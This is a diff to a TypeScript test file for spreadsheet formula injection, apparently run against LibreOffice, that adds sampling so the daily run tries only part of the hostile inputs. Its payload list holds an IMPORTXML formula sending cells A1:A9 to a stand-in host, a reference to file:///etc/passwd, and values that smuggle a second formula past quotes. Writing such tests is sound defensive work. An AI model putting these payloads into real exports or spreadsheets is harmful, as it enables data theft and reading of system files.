@@ -12,6 +12,7 @@ import { projectRoot } from '../../tools/vscode/projectPaths.ts';
 import { noSignal } from '../faults/client.ts';
 import { LibreOffice } from '../support/drivers/libreOffice.ts';
 import { recordSource } from '../support/fakes/recordSource.ts';
+import { isFull } from '../support/results/full.ts';
 import { Cases } from './cases.ts';
 
 /** All characters that are = + - @ or that Unicode's normalization makes of one, as Apple Numbers does. */
@@ -32,8 +33,15 @@ const FORMULAS = [
   ...['IMPORTXML(CONCAT("http://a.test/?x=",A1:A9),"//a")', "'file:///etc/passwd'#$passwd.A1"],
   ...['1+2";=1+2', '1+2\'" ;,=1+2', '1\n=1+1', '1\r\n"=1+1"', '"1"'],
 ];
-const HOSTILE = FRONTS.flatMap((front) =>
-  SIGNS.flatMap((sign) => FORMULAS.map((formula) => `${front}${sign}${formula}`)),
+/** The daily run has every text with a sign of ASCII, and a third of the others, in which each pair of parts occurs. */
+const isTried = (front: number, sign: number, formula: number): boolean =>
+  isFull || (SIGNS[sign] ?? '') < '\x7f' || (front + sign + formula) % 3 === 0;
+const HOSTILE = FRONTS.flatMap((front, frontAt) =>
+  SIGNS.flatMap((sign, signAt) =>
+    FORMULAS.filter((_, formulaAt) => isTried(frontAt, signAt, formulaAt)).map(
+      (formula) => `${front}${sign}${formula}`,
+    ),
+  ),
 ).concat([`=${'1+'.repeat(5000)}1`, '\ta', '\ra', '\na', '\0a', '\t', '\r', '\n', '\r\n\r\n']);
 /** Quotes are part of these texts, or nothing is run: safe or not, they stay as they are. */
 const HARMLESS = [
